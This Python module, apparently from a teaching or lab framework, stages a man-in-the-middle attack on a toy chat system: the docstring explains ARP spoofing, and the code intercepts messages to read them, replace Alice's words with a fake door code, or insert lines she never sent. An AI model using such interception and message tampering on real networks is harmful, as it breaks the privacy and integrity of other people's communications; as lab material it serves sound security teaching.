"""The man in the middle: everything goes through Mallory, who reads, changes and adds.

python -m attacks.mitm --stage 1 --goal modify
"""

import secrets

import msgspec

from attacks import Claim, Foothold, Goal, attack
from attacks.on_path import Splice, on_path
from common.loopback import Intercepted


@attack(
    position="on-path",
    goals=(
        Goal("read", "read a room message", wins="read-room", expected="B"),
        Goal("modify", "Bob shows other words than Alice typed", wins="altered-room", expected="B"),
        Goal("insert", "Bob shows what Alice never sent", wins="inserted-room", expected="B"),
    ),
)
async def mitm(foothold: Foothold, goal: Goal) -> Claim:
    """On a switched network nothing comes by Mallory by itself. So she lies: she tells every host, by ARP, that all
    the others are at her own network card. From then on the connections to the server end at her, and go on from her;
    whoever carries a line can read it, write another in its place, or add one.
    """
    claim = Claim(did=f"carried every connection ({goal.name})")
    number = f"{secrets.randbelow(10**6):06d}"

    def rewrite(line: bytes) -> list[bytes]:
        try:
            said = msgspec.json.decode(line)
        except msgspec.DecodeError:
            return [line]
        if not isinstance(said, dict):
            return [line]
        claim.read.extend(value for value in said.values() if isinstance(value, str))
        if (said.get("type"), said.get("from")) != ("say", "alice") or "text" not in said:
            return [line]
        foothold.note(f"alice says: {said['text']}")
        if goal.name == "modify":
            claim.did = f"changed Alice's words to a door code of her own, {number}"
            return [msgspec.json.encode({**said, "text": f"Good morning! The door code is {number}."})]
        if goal.name == "insert":
            claim.did = f"added a line of Alice's, with the number {number}"
            return [line, msgspec.json.encode({**said, "text": f"And please call {number}."})]
        return [line]

    async def carry(intercepted: Intercepted) -> None:
        await Splice(intercepted, rewrite).run()

    async with on_path(foothold, carry):
        await foothold.until("over")
    return claim


if __name__ == "__main__":
    from lab.attack_main import main

    main("mitm")
